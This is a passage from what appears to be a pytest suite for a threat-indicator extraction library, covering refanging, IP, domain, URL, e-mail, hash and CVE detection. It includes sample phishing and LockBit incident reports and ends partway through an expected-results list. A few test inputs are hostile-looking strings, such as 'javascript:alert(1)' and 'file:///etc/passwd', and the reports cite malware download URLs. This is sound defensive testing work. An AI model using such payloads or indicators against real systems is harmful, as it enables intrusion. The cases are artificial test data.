"""Observable extraction and canonicalisation (pure: no DB, no app).

Cases are ``(text, expected)`` where ``expected`` is the exact, ordered list of
``"type value"`` strings that ``extract`` returns.
"""

from __future__ import annotations

import ast
import dataclasses
import json
from importlib import resources
from pathlib import Path

import pytest

from incidents.observable_values import InvalidObservable
from incidents.observables import (
    Observable,
    ObservableType,
    canonicalise,
    extract,
    refang,
)

SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
MD5 = "d41d8cd98f00b204e9800998ecf8427e"


def found(text: str) -> list[str]:
    return [f"{observable.type} {observable.value}" for observable in extract(text)]


def case_id(value: object) -> str:
    text = str(value)
    return text if len(text) <= 40 else text[:37] + "..."


# --- refang -------------------------------------------------------------------------------

REFANG_CASES = [
    ("hxxp://evil.example", "http://evil.example"),
    ("hxxps://evil.example", "https://evil.example"),
    ("hXXps://evil.example", "https://evil.example"),
    ("HXXPS://evil.example", "https://evil.example"),
    ("h**p://evil.example", "http://evil.example"),
    ("h**ps://evil.example", "https://evil.example"),
    ("hxtp://evil.example", "http://evil.example"),
    ("htxps://evil.example", "https://evil.example"),
    ("h[tt]p://evil.example", "http://evil.example"),
    ("hxxps[:]//evil.example", "https://evil.example"),
    ("hxxp[://]evil.example", "http://evil.example"),
    ("hxxp(:)//evil.example", "http://evil.example"),
    ("https:[//]evil.example", "https://evil.example"),
    ("fxp://files.example", "ftp://files.example"),
    ("evil[.]example", "evil.example"),
    ("evil(.)example", "evil.example"),
    ("evil{.}example", "evil.example"),
    ("evil[dot]example", "evil.example"),
    ("evil(dot)example", "evil.example"),
    ("evil{DOT}example", "evil.example"),
    ("evil [.] example", "evil.example"),
    ("evil [ . ] example", "evil.example"),
    ("evil (dot) example", "evil.example"),
    ("evil[.)example", "evil.example"),
    ("1[.]2[.]3[.]4", "1.2.3.4"),
    ("185.220.101[.]4", "185.220.101.4"),
    ("user[@]evil.example", "user@evil.example"),
    ("user[at]evil.example", "user@evil.example"),
    ("user(at)evil.example", "user@evil.example"),
    ("user [at] evil [dot] example", "user@evil.example"),
    ("user{AT}evil.example", "user@evil.example"),
    ("evil\\.example", "evil.example"),
    ("http:\\/\\/evil.example\\/a", "http://evil.example/a"),
    ("evil\u200b.example", "evil.example"),
    ("ev\u00adil.exa\u200dmple", "evil.example"),
    ("\ufeffevil.example", "evil.example"),
    ("evil\uff0eexample", "evil.example"),
    ("evil\u3002example", "evil.example"),
    ("user\uff20evil.example", "user@evil.example"),
    ("http\uff1a\uff0f\uff0fevil.example", "http://evil.example"),
    ("2001:db8[:]1", "2001:db8:1"),
]

PROSE_CASES = [
    "Nous nous retrouvons at the office.",
    "Le dot-com crash et la bulle.",
    "Write to us at cert dot ma.",
    "Meeting at 10:30, dot points below.",
    "Une liste [...] et (...) des éléments.",
    "hxxp sans deux-points reste tel quel",
    "Le rapport (voir annexe) est joint.",
    "L’équipe « Vigie » a répondu à 09h30.",
    "http://déjà.propre.example/ reste inchangé",
    "Texte arabe : تم رصد اتصال مشبوه",
]


@pytest.mark.parametrize(("defanged", "expected"), REFANG_CASES, ids=case_id)
def test_refang(defanged: str, expected: str) -> None:
    assert refang(defanged) == expected


@pytest.mark.parametrize("text", PROSE_CASES, ids=case_id)
def test_refang_leaves_prose_alone(text: str) -> None:
    assert refang(text) == text


# --- IPv4 ---------------------------------------------------------------------------------

IPV4_POSITIVE = [
    ("connexions depuis 185.220.101.4", ["ipv4 185.220.101.4"]),
    ("IP: 10.0.0.1", ["ipv4 10.0.0.1"]),
    ("IP : 10.0.0.1.", ["ipv4 10.0.0.1"]),
    ("(192.168.1.20)", ["ipv4 192.168.1.20"]),
    ("« 203.0.113.9 »", ["ipv4 203.0.113.9"]),
    ("185.220.101[.]4", ["ipv4 185.220.101.4"]),
    ("185[.]220[.]101[.]4", ["ipv4 185.220.101.4"]),
    ("185.220.101(.)4 et 185.220.101[dot]5", ["ipv4 185.220.101.4", "ipv4 185.220.101.5"]),
    ("198.51.100.7:4444", ["ipv4 198.51.100.7"]),
    ("src=198.51.100.7;dst=10.1.2.3", ["ipv4 198.51.100.7", "ipv4 10.1.2.3"]),
    ("203.0.113.10,120034", ["ipv4 203.0.113.10"]),
    ("plage 203.0.113.1-203.0.113.9", ["ipv4 203.0.113.1", "ipv4 203.0.113.9"]),
    ("0.0.0.0 et 255.255.255.255", ["ipv4 0.0.0.0"]),  # all-ones is a mask / broadcast
    ("127.0.0.1", ["ipv4 127.0.0.1"]),
    ("adresse:8.8.8.8", ["ipv4 8.8.8.8"]),
    ("l'IP 45.137.21.9 a scanné", ["ipv4 45.137.21.9"]),
    ("l’IP 45.137.21.9 a scanné", ["ipv4 45.137.21.9"]),
    ("depuis\u00a045.137.21.9\u202f!", ["ipv4 45.137.21.9"]),
    ("1.1.1.1 puis 1.1.1.1 encore", ["ipv4 1.1.1.1"]),
    ("OpenSSL 1.1.1.1", ["ipv4 1.1.1.1"]),  # decided: a product name is not a version word
    ("version 1.2.3[.]4", ["ipv4 1.2.3.4"]),  # defanging is evidence
    ("تم رصد اتصال من 185.220.101.4 اليوم", ["ipv4 185.220.101.4"]),
    ("IPs:\n- 192.0.2.1\n- 192.0.2.2\n", ["ipv4 192.0.2.1", "ipv4 192.0.2.2"]),
    ("\t192.0.2.3\t", ["ipv4 192.0.2.3"]),
    ("192.0.2.4...", ["ipv4 192.0.2.4"]),
    ("1.2.3.4-", ["ipv4 1.2.3.4"]),
    ("[192.0.2.5]", ["ipv4 192.0.2.5"]),
    ("'192.0.2.6'", ["ipv4 192.0.2.6"]),
    ("depuis 192.0.2.7.Le serveur", ["ipv4 192.0.2.7"]),
    ("depuis 192.0.2.8.État", ["ipv4 192.0.2.8"]),
]

IPV4_NEGATIVE = [
    "version 1.2.3.4",
    "Version: 1.2.3.4",
    "versions 2.4.1.0",
    "v1.2.3.4",
    "V 1.2.3.4",
    "ver. 1.2.3.4",
    "Windows 10.0.19041.1",
    "build 6.1.7601.1",
    "Build 10.0.0.1",
    "firmware 1.0.2.3",
    "release 4.2.0.1",
    "révision 1.0.0.4",
    "section 1.2.3.4",
    "§ 1.2.3.4",
    "§1.2.3.4",
    "article 1.2.3.4",
    "art. 1.2.3.4",
    "OID 1.3.6.1",
    "netmask 255.255.255.0",
    "masque 255.255.0.0",
    "255.255.255.0",
    "255.255.255.128",
    "1.200.150.200 MAD",
    "1.200.150.200 DH",
    "1.200.150.200 €",
    "10.0.0.0/24",
    "185.220.101.0/24,",
    "999.1.1.1",
    "256.256.256.256",
    "1.2.3.256",
    "01.02.03.04",
    "010.1.1.1",
    "1.2.3",
    "3.2.1",
    "1.2.3.4.5",
    "06.12.34.56.78",
    "1.234.567,89 MAD",
    "1.234.567.890",
    "ticket #4.2.1.7",
    "n° 4.2.1.7",
    "numéro 4.2.1.7",
    "12.03.2024",
    "a1.2.3.4",
    "1.2.3.4a",
    "1.2.3.4.in-addr",
    "x.1.2.3.4",
    "+212 5 37 00 00 00",
    "3.14159",
    "1,2,3,4",
    "١.٢.٣.٤",
]


@pytest.mark.parametrize(("text", "expected"), IPV4_POSITIVE, ids=case_id)
def test_ipv4_found(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", IPV4_NEGATIVE, ids=case_id)
def test_ipv4_not_found(text: str) -> None:
    assert [item for item in found(text) if item.startswith("ipv4")] == []


# --- IPv6 ---------------------------------------------------------------------------------

IPV6_POSITIVE = [
    ("2001:db8::1", ["ipv6 2001:db8::1"]),
    ("2001:DB8::1", ["ipv6 2001:db8::1"]),
    ("2001:0db8:0000:0000:0000:0000:0000:0001", ["ipv6 2001:db8::1"]),
    ("2001:db8:85a3::8a2e:370:7334", ["ipv6 2001:db8:85a3::8a2e:370:7334"]),
    ("::1", ["ipv6 ::1"]),
    ("fe80::1%eth0", ["ipv6 fe80::1"]),
    ("[2001:db8::2]:443", ["ipv6 2001:db8::2"]),
    ("IPv6 2001:db8::3.", ["ipv6 2001:db8::3"]),
    ("(2001:db8::4)", ["ipv6 2001:db8::4"]),
    ("::ffff:192.0.2.1", ["ipv6 ::ffff:192.0.2.1"]),
    ("2001:db8::5, 2001:db8::6", ["ipv6 2001:db8::5", "ipv6 2001:db8::6"]),
    ("dead:beef:cafe:babe:0:0:0:1", ["ipv6 dead:beef:cafe:babe::1"]),
    ("adresse 2001:db8::7: bloquée", ["ipv6 2001:db8::7"]),
    ("2001:db8::8 et 2001:DB8:0::8", ["ipv6 2001:db8::8"]),
    ("2001:db8[:]:9", ["ipv6 2001:db8::9"]),
]

IPV6_NEGATIVE = [
    "à 10:30",
    "à 10:30:45",
    "10:30:45.123",
    "MAC 00:1a:2b:3c:4d:5e",
    "00:1A:2B:3C:4D:5E:6F:70",
    "ab:cd:ef:01:23:45:67:89:ab:cd:ef:01:23:45:67:89",
    "std::string",
    "Foo::Bar::baz",
    "::",
    "ratio 3:2:1",
    "2001:db8::1g",
    "gggg::1",
    "1:2:3:4:5:6:7:8:9",
    "Note: voir: ci-dessous",
]


@pytest.mark.parametrize(("text", "expected"), IPV6_POSITIVE, ids=case_id)
def test_ipv6_found(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", IPV6_NEGATIVE, ids=case_id)
def test_ipv6_not_found(text: str) -> None:
    assert [item for item in found(text) if item.startswith("ipv6")] == []


def test_only_the_word_just_before_an_address_counts() -> None:
    text = "La version 1.2.3.4 contacte 185.220.101.4 ; versions 2.4.1.0 et 2.4.1.9."
    assert found(text) == ["ipv4 185.220.101.4", "ipv4 2.4.1.9"]  # decided: no chaining


def test_ipv4_inside_ipv6_is_not_a_separate_ipv4() -> None:
    assert found("::ffff:198.51.100.7") == ["ipv6 ::ffff:198.51.100.7"]


# --- domains ------------------------------------------------------------------------------

DOMAIN_POSITIVE = [
    ("evil.example", ["domain evil.example"]),
    ("Visitez evil-site.com.", ["domain evil-site.com"]),
    ("EVIL.COM", ["domain evil.com"]),
    ("Evil.com", ["domain evil.com"]),
    ("evil.com.", ["domain evil.com"]),
    ("www.finances.gov.ma", ["domain www.finances.gov.ma"]),
    ("mail.dgi-impots-gouv.ma", ["domain mail.dgi-impots-gouv.ma"]),
    ("bit.ly et t.me", ["domain bit.ly", "domain t.me"]),
    ("« evil.fr »", ["domain evil.fr"]),
    ("l’adresse evil.fr’", ["domain evil.fr"]),
    ("l'adresse evil.fr", ["domain evil.fr"]),
    ("qu’à evil.fr,", ["domain evil.fr"]),
    ("(evil.fr)", ["domain evil.fr"]),
    ("evil[.]fr", ["domain evil.fr"]),
    ("evil[dot]fr", ["domain evil.fr"]),
    ("evil (dot) fr", ["domain evil.fr"]),
    ("evil\\.fr", ["domain evil.fr"]),
    ("evil.example/login.php", ["domain evil.example"]),
    ("sub_domain.evil.ru", ["domain sub_domain.evil.ru"]),
    ("_dmarc.evil.ru", ["domain _dmarc.evil.ru"]),
    ("- evil.ru", ["domain evil.ru"]),
    ("-evil.ru", ["domain evil.ru"]),
    ("_evil.ru_", ["domain evil.ru"]),
    ("__evil.ru__", ["domain evil.ru"]),
    ("xn--exmple-cua.com", ["domain xn--exmple-cua.com"]),
    ("exämple[.]com", ["domain xn--exmple-cua.com"]),
    ("evil.xn--p1ai", ["domain evil.xn--p1ai"]),
    ("a.b.c.d.evil.co.uk", ["domain a.b.c.d.evil.co.uk"]),
    ("update[.]zip", ["domain update.zip"]),  # decided: a defanged .zip is a domain
    ("microsoft-office[.]zip", ["domain microsoft-office.zip"]),
    ("clip[.]mov", ["domain clip.mov"]),
    ("bloqué evil.com.Le serveur", ["domain evil.com"]),
    ("fin.DE", ["domain fin.de"]),  # all-caps TLD: kept
    ("evil.com.br", ["domain evil.com.br"]),
    ("lockbitsupp.onion", ["domain lockbitsupp.onion"]),
    ("4.3.2.1.in-addr.arpa", ["domain 4.3.2.1.in-addr.arpa"]),
    ("evil.la suite", ["domain evil.la"]),  # decided: lower-case run-ons are not detected
    ("asp[.]net", ["domain asp.net"]),
    ("evil.app", ["domain evil.app"]),
    ("bot.pl", ["domain bot.pl"]),  # .pl is Poland unless a file word precedes
    ("evil.in", ["domain evil.in"]),
    ("le domaine evil.zip.example", ["domain evil.zip.example"]),
    ("evil.com\u00a0!", ["domain evil.com"]),
    ("src=//evil.com/x.js", ["domain evil.com"]),
    ("*.evil.com", ["domain evil.com"]),
    ("*.evil[.]com et *.duckdns.org", ["domain evil.com", "domain duckdns.org"]),
    ("\\\\evil.com\\share", ["domain evil.com"]),
    ("evil.com/evil2.com", ["domain evil.com"]),  # decided: after "word/" is a path
]

DOMAIN_NEGATIVE = [
    "invoice.pdf",
    "rapport.docx",
    "script.js",
    "payload.exe",
    "library.dll",
    "notes.txt",
    "capture.png",
    "photo.jpg",
    "tableau.xlsx",
    "slides.pptx",
    "archive.tar.gz",
    "jquery.min.js",
    "update.zip",  # decided: a bare .zip is a file name
    "video.mov",
    "setup.py",
    "install.sh",
    "README.md",
    "libprocesshider.so",
    "libc.so.6",
    "id_rsa.pub",
    "invoice.one",
    "driver.cab",
    "Module.pm",
    "le fichier rapport.ma",
    "pièce jointe facture.fr",
    "attachment: invoice.it",
    "le script bot.pl",
    "file named evil.de",
    "facture.de (245 Ko)",
    "dump.ru 12 Mo",
    "archive.eu, 3,5 MB",
    "voir le rapport.Le serveur",
    "fin.De plus",
    "incident.La suite",
    "Google.Com",
    "e.g.",
    "i.e.",
    "etc.",
    "p.ex.",
    "M. Alami",
    "M.Alami",
    "art. 12",
    "S.A.R.L.",
    "c.-à-d.",
    "3.2.1",
    "1.2",
    "v1.2.3",
    "Apache 2.4.49",
    "ASP.NET",
    "VB.NET",
    "Socket.IO",
    "com.whatsapp.plus",
    "org.example.app",
    "self.data",
    "this.data",
    "subprocess.run(cmd)",
    "app.run()",
    "réseau.fr",
    "terminé.la",
    "exämple.com",
    "localhost",
    "intranet.local",
    "dc01.corp.internal",
    "host.lan",
    "evil..com",
    "evil.c",
    "-.com",
    "evil.com_backup",
    "node.js",
    "C:\\ProgramData\\svchost.com",
    "/opt/.x/kworker.com",
    "/usr/lib/evil.so",
    "%APPDATA%\\update.com",
]


@pytest.mark.parametrize(("text", "expected"), DOMAIN_POSITIVE, ids=case_id)
def test_domain_found(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", DOMAIN_NEGATIVE, ids=case_id)
def test_domain_not_found(text: str) -> None:
    assert [item for item in found(text) if item.startswith("domain")] == []


def test_long_label_is_not_a_domain() -> None:
    assert found("a" * 64 + ".com") == []
    assert found("a" * 63 + ".com") == ["domain " + "a" * 63 + ".com"]


def test_overlong_name_is_not_a_domain() -> None:
    name = ".".join(["abcdefghi"] * 26) + ".com"  # 263 characters
    assert found(name) == []


# --- URLs ---------------------------------------------------------------------------------

URL_POSITIVE = [
    ("http://evil.example/a", ["url http://evil.example/a", "domain evil.example"]),
    ("HTTP://EVIL.EXAMPLE/Path", ["url http://evil.example/Path", "domain evil.example"]),
    ("https://evil.example", ["url https://evil.example/", "domain evil.example"]),
    ("https://evil.example:443/x", ["url https://evil.example/x", "domain evil.example"]),
    ("http://evil.example:80/x", ["url http://evil.example/x", "domain evil.example"]),
    ("http://evil.example:8080/x", ["url http://evil.example:8080/x", "domain evil.example"]),
    ("https://evil.example./x", ["url https://evil.example/x", "domain evil.example"]),
    ("hxxps://evil[.]example/x", ["url https://evil.example/x", "domain evil.example"]),
    ("hxxps[:]//evil[.]example/x", ["url https://evil.example/x", "domain evil.example"]),
    (
        "hxxp://185.220.101[.]47:8080/p.exe",
        ["url http://185.220.101.47:8080/p.exe", "ipv4 185.220.101.47"],
    ),
    ("http://[2001:db8::1]:8080/x", ["url http://[2001:db8::1]:8080/x", "ipv6 2001:db8::1"]),
    (
        "ftp://files.evil.ru/pub/x.bin",
        ["url ftp://files.evil.ru/pub/x.bin", "domain files.evil.ru"],
    ),
    ("fxp://files.evil.ru/x", ["url ftp://files.evil.ru/x", "domain files.evil.ru"]),
    ("sftp://u@h.evil.ru/x", ["url sftp://u@h.evil.ru/x", "domain h.evil.ru"]),
    ("wss://evil.ru/socket", ["url wss://evil.ru/socket", "domain evil.ru"]),
    ("http://user:pw@evil.ru/", ["url http://user:pw@evil.ru/", "domain evil.ru"]),
    ("Voir http://evil.ru/a.", ["url http://evil.ru/a", "domain evil.ru"]),
    ("Voir http://evil.ru/a, puis", ["url http://evil.ru/a", "domain evil.ru"]),
    (
        "http://evil.ru/a; http://evil.ru/b",
        ["url http://evil.ru/a", "domain evil.ru", "url http://evil.ru/b"],
    ),
    ("(voir http://evil.ru/a)", ["url http://evil.ru/a", "domain evil.ru"]),
    ("(voir http://evil.ru/a_(b)).", ["url http://evil.ru/a_(b)", "domain evil.ru"]),
    ("[http://evil.ru/a]", ["url http://evil.ru/a", "domain evil.ru"]),
    ("<http://evil.ru/a>", ["url http://evil.ru/a", "domain evil.ru"]),
    ("«http://evil.ru/a»", ["url http://evil.ru/a", "domain evil.ru"]),
    ("« http://evil.ru/a »", ["url http://evil.ru/a", "domain evil.ru"]),
    ('"http://evil.ru/a"', ["url http://evil.ru/a", "domain evil.ru"]),
    ("'http://evil.ru/a'", ["url http://evil.ru/a", "domain evil.ru"]),
    ("“http://evil.ru/a”", ["url http://evil.ru/a", "domain evil.ru"]),
    ("http://evil.ru/a!", ["url http://evil.ru/a", "domain evil.ru"]),
    ("http://evil.ru/a?", ["url http://evil.ru/a", "domain evil.ru"]),
    ("http://evil.ru/a…", ["url http://evil.ru/a", "domain evil.ru"]),
    ("**http://evil.ru/a**", ["url http://evil.ru/a", "domain evil.ru"]),
    (
        "http://evil.ru/login.php?id=1&x=2#top",
        ["url http://evil.ru/login.php?id=1&x=2#top", "domain evil.ru"],
    ),
    ("http://evil.ru/a,b;c", ["url http://evil.ru/a,b;c", "domain evil.ru"]),
    ("http://evil.ru/%20x", ["url http://evil.ru/%20x", "domain evil.ru"]),
    (
        "http://evil.ru/x?next=http://other.ru/",
        ["url http://evil.ru/x?next=http://other.ru/", "domain evil.ru"],
    ),
    ("http://exämple.com/x", ["url http://xn--exmple-cua.com/x", "domain xn--exmple-cua.com"]),
    ("http://evil.ru/update.zip", ["url http://evil.ru/update.zip", "domain evil.ru"]),
    ("http://update.zip/x", ["url http://update.zip/x", "domain update.zip"]),
    ("http://srv.corp.local/x", ["url http://srv.corp.local/x"]),
    ("http:\\/\\/evil.ru\\/a", ["url http://evil.ru/a", "domain evil.ru"]),
    ("[lien](https://evil.ru/a)", ["url https://evil.ru/a", "domain evil.ru"]),
    ("https://evil.ru/a]", ["url https://evil.ru/a", "domain evil.ru"]),
    ("https://evil.ru/{x}", ["url https://evil.ru/", "domain evil.ru"]),
    (
        f"https://www.virustotal.com/gui/file/{SHA256}",
        [
            f"url https://www.virustotal.com/gui/file/{SHA256}",
            "domain www.virustotal.com",
            f"sha256 {SHA256}",
        ],
    ),
    (
        "https://nvd.nist.gov/vuln/detail/CVE-2024-3400",
        [
            "url https://nvd.nist.gov/vuln/detail/CVE-2024-3400",
            "domain nvd.nist.gov",
            "cve CVE-2024-3400",
        ],
    ),
    ("http://evil.ru/x@evil2.ru", ["url http://evil.ru/x@evil2.ru", "domain evil.ru"]),
]

URL_NEGATIVE = [
    "http://",
    "http://localhost/admin",
    "http://intranet/x",
    "http://999.1.1.1/x",
    "http://evil.ru:99999/x",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "mailto:someone",
    "data:text/html;base64,AAAA",
    "hxxp sans url",
    "xhttp://evil.ru/",
]


@pytest.mark.parametrize(("text", "expected"), URL_POSITIVE, ids=case_id)
def test_url_found(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", URL_NEGATIVE, ids=case_id)
def test_url_not_found(text: str) -> None:
    assert [item for item in found(text) if item.startswith("url")] == []


def test_url_without_scheme_yields_its_domain_only() -> None:
    assert found("evil[.]example/wp-admin/x.php") == ["domain evil.example"]


# --- e-mail addresses ---------------------------------------------------------------------

EMAIL_POSITIVE = [
    ("attacker@evil.example", ["email attacker@evil.example", "domain evil.example"]),
    ("Attacker@Evil.Example", ["email attacker@evil.example", "domain evil.example"]),
    ("john.doe@finances.gov.ma", ["email john.doe@finances.gov.ma", "domain finances.gov.ma"]),
    ("x+tag@evil.ru", ["email x+tag@evil.ru", "domain evil.ru"]),
    ("a_b-c%d@evil.ru", ["email a_b-c%d@evil.ru", "domain evil.ru"]),
    ("<no-reply@evil.ru>", ["email no-reply@evil.ru", "domain evil.ru"]),
    ("mailto:x@evil.ru", ["email x@evil.ru", "domain evil.ru"]),
    ("x@evil.ru.", ["email x@evil.ru", "domain evil.ru"]),
    ("x[@]evil[.]ru", ["email x@evil.ru", "domain evil.ru"]),
    ("x[at]evil[dot]ru", ["email x@evil.ru", "domain evil.ru"]),
    ("x (at) evil (dot) ru", ["email x@evil.ru", "domain evil.ru"]),
    ("x\uff20evil.ru", ["email x@evil.ru", "domain evil.ru"]),
    ("x@exämple.com", ["email x@xn--exmple-cua.com", "domain xn--exmple-cua.com"]),
    ("x@update.zip", ["email x@update.zip", "domain update.zip"]),
    ("john.me@evil.ru", ["email john.me@evil.ru", "domain evil.ru"]),
    (".x@evil.ru", ["email x@evil.ru", "domain evil.ru"]),
    ("sender=x@evil.ru", ["email x@evil.ru", "domain evil.ru"]),  # key=value logs
    ("x@Evil.Com", ["email x@evil.com", "domain evil.com"]),
    ("x@evil.ru.Merci", ["email x@evil.ru", "domain evil.ru"]),
    (
        "a@evil.ru, b@evil.ru",
        ["email a@evil.ru", "domain evil.ru", "email b@evil.ru"],
    ),
]

EMAIL_NEGATIVE = [
    "@evil_user",
    "user@localhost",
    "user@intranet.local",
    "user@host",
    "user at evil dot ru",
    "user@evil.pdf",
    "a@b@c",
    "josé@",
    "x@-evil.ru",
]


@pytest.mark.parametrize(("text", "expected"), EMAIL_POSITIVE, ids=case_id)
def test_email_found(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", EMAIL_NEGATIVE, ids=case_id)
def test_email_not_found(text: str) -> None:
    assert [item for item in found(text) if item.startswith("email")] == []


# --- hashes -------------------------------------------------------------------------------

HASH_POSITIVE = [
    (MD5, [f"md5 {MD5}"]),
    (MD5.upper(), [f"md5 {MD5}"]),
    (SHA1, [f"sha1 {SHA1}"]),
    (SHA256, [f"sha256 {SHA256}"]),
    (SHA256.upper(), [f"sha256 {SHA256}"]),
    (f"MD5: {MD5}", [f"md5 {MD5}"]),
    (f"md5={MD5};", [f"md5 {MD5}"]),
    (f"SHA-256 : {SHA256}.", [f"sha256 {SHA256}"]),
    (f"sha256:{SHA256}", [f"sha256 {SHA256}"]),
    (f"({SHA1})", [f"sha1 {SHA1}"]),
    (f"{MD5}_unpacked.exe", [f"md5 {MD5}"]),
    (f"{MD5}.exe", [f"md5 {MD5}"]),
    (f"«{MD5}»", [f"md5 {MD5}"]),
    (f"{MD5} {SHA1} {SHA256}", [f"md5 {MD5}", f"sha1 {SHA1}", f"sha256 {SHA256}"]),
    (f"{MD5}\n{MD5.upper()}", [f"md5 {MD5}"]),
]

HASH_NEGATIVE = [
    MD5[:-1],
    MD5 + "a",
    SHA256 + "0",
    SHA256 + SHA256,
    SHA256[:63],
    "0x" + SHA1,
    "g" + MD5,
    MD5 + "g",
    "1" * 32,
    "a" * 32,
    "f" * 64,
    "0" * 40,
    "12345678901234567890123456789012",
    "zz" + SHA256[2:],
    "3F2504E0-4F89-11D3-9A0C-0305E82C3301",
]


@pytest.mark.parametrize(("text", "expected"), HASH_POSITIVE, ids=case_id)
def test_hash_found(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", HASH_NEGATIVE, ids=case_id)
def test_hash_not_found(text: str) -> None:
    kinds = ("md5", "sha1", "sha256")
    assert [item for item in found(text) if item.startswith(kinds)] == []


def test_sha256_substrings_are_not_md5() -> None:
    assert found(SHA256) == [f"sha256 {SHA256}"]
    assert found(SHA256 + " " + SHA256[:32]) == [f"sha256 {SHA256}", f"md5 {SHA256[:32]}"]


# --- CVE ----------------------------------------------------------------------------------

CVE_POSITIVE = [
    ("CVE-2024-3400", ["cve CVE-2024-3400"]),
    ("cve-2024-3400", ["cve CVE-2024-3400"]),
    ("Cve-2021-44228", ["cve CVE-2021-44228"]),
    ("CVE\u20112023\u20114966", ["cve CVE-2023-4966"]),
    ("CVE–2023–4966", ["cve CVE-2023-4966"]),
    ("CVE 2024-3400", ["cve CVE-2024-3400"]),
    ("(CVE-2024-3400).", ["cve CVE-2024-3400"]),
    ("CVE-2024-3400, CVE-2024-3401", ["cve CVE-2024-3400", "cve CVE-2024-3401"]),
    ("CVE-2024-1234567", ["cve CVE-2024-1234567"]),
    ("CVE-1999-0001", ["cve CVE-1999-0001"]),
    ("«CVE-2024-3400»", ["cve CVE-2024-3400"]),
    ("CVE-2024-3400 et cve-2024-3400", ["cve CVE-2024-3400"]),
]

CVE_NEGATIVE = [
    "CVE-2024-340",
    "CVE-24-3400",
    "CVE-2024-12345678",
    "CVE-1998-0001",
    "CVE-2024-01234",
    "XCVE-2024-3400",
    "CVE-2024-3400a",
    "CVE2024-3400x",
    "CAN-2004-0001",
    "MA-CERT-2024-0417",
]


@pytest.mark.parametrize(("text", "expected"), CVE_POSITIVE, ids=case_id)
def test_cve_found(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", CVE_NEGATIVE, ids=case_id)
def test_cve_not_found(text: str) -> None:
    assert [item for item in found(text) if item.startswith("cve")] == []


# --- false-positive traps: nothing at all -------------------------------------------------

NOTHING = [
    "Le 12/03/2024 à 09:42, l’incident a été signalé.",
    "Réunion le 2024-03-12T10:30:00Z.",
    "Appelez le +212 5 37 00 00 00 ou le 05.37.00.00.00.",
    "Montant : 1.234.567,89 MAD, soit 123 456,78 €.",
    "Voir la section 3.2.1 et l’annexe B.4.",
    "Pi vaut 3.14159 et e vaut 2.71828.",
    "Par ex. (e.g.) des fichiers, i.e. des documents, etc.",
    "M. Alami et Mme. Bennani, cf. art. 12 de la loi 05-20.",
    "voir le rapport.Le serveur a redémarré.Il fonctionne.",
    "Le fichier invoice.pdf (245 Ko) et rapport.docx.",
    "Pièce jointe : facture_2024.zip",
    "Windows 10.0.19041.1 et build 6.1.7601.1.",
    "Version 1.2.3.4 de l’agent.",
    "Chrome 120.0.6099.109",
    "Apache/2.4.49 (Unix)",
    "Le ransomware LockBit 3.0 a chiffré 1.5 To.",
    "Durée 1:30:00, débit 48.5 Gbps, 3.2 Mpps.",
    "Incident INC-2024-000123 classé.",
    "Le dot-com et l’at-home.",
    "Ticket #4.2.1.7 ouvert.",
    "Référence MA-CERT-2024-0417.",
    "Le terme e-mail et le mot @mention.",
    "Tableau : col1 | col2 | col3",
    "Adresse MAC 00:1a:2b:3c:4d:5e.",
    "std::vector<int> v;",
    "Taux 99.9 % et 0.1 %.",
    "import os.path; os.path.join(a, b)",
    "console.log(window.location);",
    "",
    "   \n\t ",
]


@pytest.mark.parametrize("text", NOTHING, ids=case_id)
def test_nothing_found(text: str) -> None:
    assert found(text) == []


# --- realistic reports --------------------------------------------------------------------

PHISHING_FR = """\
Objet : Campagne d’hameçonnage visant le Ministère de l’Économie et des Finances

Le 12/03/2024 à 09:42, plusieurs agents ont reçu un courriel usurpant la DGI, envoyé depuis
« Service Impôts » <noreply[@]dgi-impots-gouv[.]ma> (serveur d’envoi 185.220.101[.]47, reverse
mail.dgi-impots-gouv.ma). Le message invitait à ouvrir la pièce jointe facture_2024.pdf
(245 Ko) puis à se connecter sur hxxps://dgi-impots-gouv[.]ma/espace/login.php?ref=MEF.
La pièce jointe contenait un lien vers hxxp://185.220.101[.]47:8080/payload.exe ; SHA-256 du
fichier : 9F86D081884C7D659A2FEAE0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08.
Destinataires : a.alami@finances.gov.ma, s.bennani@finances.gov.ma. Voir la section 3.2.1 du
rapport.Merci de bloquer ces indicateurs, e.g. au niveau du relais SMTP.
"""

PHISHING_FR_EXPECTED = [
    "email noreply@dgi-impots-gouv.ma",
    "domain dgi-impots-gouv.ma",
    "ipv4 185.220.101.47",
    "domain mail.dgi-impots-gouv.ma",
    "url https://dgi-impots-gouv.ma/espace/login.php?ref=MEF",
    "url http://185.220.101.47:8080/payload.exe",
    "sha256 9f86d081884c7d659a2feae0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "email a.alami@finances.gov.ma",
    "domain finances.gov.ma",
    "email s.bennani@finances.gov.ma",
]

RANSOMWARE_EN = f"""\
Incident INC-2024-000123: LockBit 3.0 ransomware on the Ministry of Health file servers.

The ransom note README.txt (1.2 KB) tells the victim to visit
http://lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion/ and to contact
LockBit-Support@onionmail.org. Samples recovered from \\\\FS01\\share:
  - locker.exe   MD5 {MD5.upper()}
  - locker.exe   SHA1 {SHA1}
  - locker.dll   SHA256 {SHA256}
Initial access: CVE-2023-4966 (Citrix Bleed) on NetScaler version 13.1.49.15.
Exfiltration to 45.137.21.9 over port 443 with rclone v1.64.2; C2 at update-check[.]ru.
The same MD5 ({MD5}) was seen on build 6.1.7601.1 hosts.
"""

RANSOMWARE_EN_EXPECTED = [
    "url http://lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion/",
    "domain lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion",
    "email lockbit-support@onionmail.org",
    "domain onionmail.org",
    f"md5 {MD5}",
    f"sha1 {SHA1}",
    f"sha256 {SHA256}",
